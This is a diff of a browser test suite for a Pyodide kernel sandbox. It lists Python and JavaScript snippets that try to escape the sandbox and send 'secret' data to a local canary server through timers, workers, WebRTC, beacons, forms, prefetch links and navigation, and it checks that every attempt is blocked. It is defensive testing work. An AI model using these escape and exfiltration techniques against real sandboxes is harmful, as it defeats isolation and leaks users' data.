@@ -50,13 +50,13 @@ const ROUTES = {
   "a function's constructor": "import js\nawait js.setTimeout.constructor(f\"return fetch('{URL}')\")()",
   "a timer with source text": "import js, asyncio\njs.setTimeout(f\"fetch('{URL}')\", 0)\nawait asyncio.sleep(0.3)\n1/0",
   "Pyodide's own loader": "import pyodide_js\nawait pyodide_js.loadPackage(URL + '/x_never-1-py3-none-any.whl')\nimport x_never",
-  "Pyodide's file system": "import pyodide_js\npyodide_js.FS.createLazyFile('/', 'lazy', URL, True, False)\nopen('/lazy').read()",
   "a worker of its own": "from pyodide.code import run_js\nawait run_js(f\"new Promise((yes, no) => {{ const w = new Worker(URL.createObjectURL(new Blob([`fetch('{URL}').then(() => postMessage('out'), () => postMessage('no'))`]))); w.onmessage = e => e.data == 'out' ? yes(1) : no(new Error('no')); w.onerror = () => no(new Error('no')); }})\")",
   "RTCPeerConnection": "from pyodide.code import run_js\nrun_js(f\"new RTCPeerConnection({{iceServers: [{{urls: 'turn:{HOST}:{PORT}?transport=tcp', username: 'a', credential: 'b'}}]}}).createDataChannel('x')\")",
   "IndexedDB": "from pyodide.code import run_js\nawait run_js(\"new Promise((yes, no) => { const r = indexedDB.open('x'); r.onsuccess = yes; r.onerror = () => no(new Error('denied')); })\")",
   "the page's cache": "from pyodide.code import run_js\nawait run_js(\"caches.open('x')\")",
   "the page's document": "import js\njs.document.title",
   "the page through parent": "import js\njs.parent.location.href",
+  "Pyodide's file system": "import pyodide_js\npyodide_js.FS.createLazyFile('/', 'lazy', URL, True, False)\nopen('/lazy').read()",
   "a navigation": "import js\njs.location.href = URL\nimport asyncio\nawait asyncio.sleep(0.3)\n1/0",
 };
 
@@ -65,20 +65,48 @@ for (const [route, code] of Object.entries(ROUTES)) {
     const from = canary.touched();
     const prelude = `HOST, PORT = '127.0.0.1', ${canary.port}\nURL = '${canary.url}'\n`;
     const outcome = await within(20_000, route, run(page, prelude + code, { timeoutMs: 10_000 }));
-    assert.equal(outcome.status, "error", JSON.stringify(outcome.results));
+    // Some of these bring the interpreter down, which is an end too.
+    assert.match(outcome.status, /^(error|killed)$/, JSON.stringify(outcome.results));
     assert.equal(canary.touched(), from);
   });
 }
 
-test("the frame cannot be led away from its address", async () => {
-  const frame = page.frames().find((frame) => frame !== page.mainFrame());
-  assert.ok(frame, "the kernel's frame");
-  assert.equal(await frame.evaluate(() => self.origin), "null");
-  await frame.evaluate((url) => void (location.href = url), canary.url).catch(() => {});
-  await frame.evaluate((url) => void (document.body.innerHTML = `<img src="${url}"><iframe src="${url}"></iframe><form action="${url}" method="post"><button>`), canary.url).catch(() => {});
-  await frame.evaluate(() => document.querySelector("button")?.click()).catch(() => {});
-  await frame.evaluate((url) => void window.open(url), canary.url).catch(() => {});
-  // What must not happen has no event to wait for; a connection on the loopback would be there long before this.
-  await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 500)));
-  assert.equal(canary.touched(), 1, "only the test itself has been there");
-});
+// What somebody could try who had got from the worker into the frame's document, which nothing in the page allows. A blocked
+// navigation may open a connection ahead of time; it must not say anything on it.
+const ATTEMPTS = {
+  "an image": (url) => (document.body.innerHTML = `<img src="${url}/secret">`),
+  "a frame of its own": (url) => (document.body.innerHTML = `<iframe src="${url}/secret"></iframe>`),
+  "a form": (url) => {
+    document.body.innerHTML = `<form action="${url}/secret" method="post"></form>`;
+    document.querySelector("form").submit();
+  },
+  "a window": (url) => void window.open(`${url}/secret`),
+  "links to fetch ahead": (url) =>
+    (document.head.innerHTML = ["prefetch", "preload", "modulepreload", "stylesheet", "icon"].map((rel) => `<link rel="${rel}" as="image" href="${url}/secret">`).join("")),
+  "a beacon": (url) => void navigator.sendBeacon(`${url}/secret`, "secret"),
+  "a fetch": (url) => void fetch(`${url}/secret`, { method: "POST", body: "secret", mode: "no-cors" }).catch(() => {}),
+  "a refresh": (url) => (document.head.innerHTML = `<meta http-equiv="refresh" content="0;url=${url}/secret">`),
+  "a navigation": (url) => void (location.href = `${url}/secret`),
+  "the page's own address": () => void (top.location.href = "about:blank"),
+};
+
+for (const [name, attempt] of Object.entries(ATTEMPTS)) {
+  test(`the frame's document says nothing to anybody by way of ${name}`, async () => {
+    await page.evaluate(async () => {
+      const frame = document.createElement("iframe");
+      for (const [name, value] of Object.entries({ sandbox: "allow-scripts", allow: "cross-origin-isolated", src: "/kernel/frame", name: "second" })) frame.setAttribute(name, value);
+      const loaded = new Promise((resolve) => (frame.onload = resolve));
+      document.body.append(frame);
+      await loaded;
+    });
+    const frame = page.frame({ name: "second" });
+    assert.equal(await frame.evaluate(() => self.origin), "null");
+    const heard = canary.heard();
+    await frame.evaluate(attempt, canary.url).catch(() => {});
+    // What must not happen has no event to wait for; on the loopback it would be there long before this.
+    await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 400)));
+    assert.equal(canary.heard(), heard);
+    assert.equal(page.url(), `${server.url}/`);
+    await page.evaluate(() => document.querySelector('iframe[name="second"]').remove());
+  });
+}
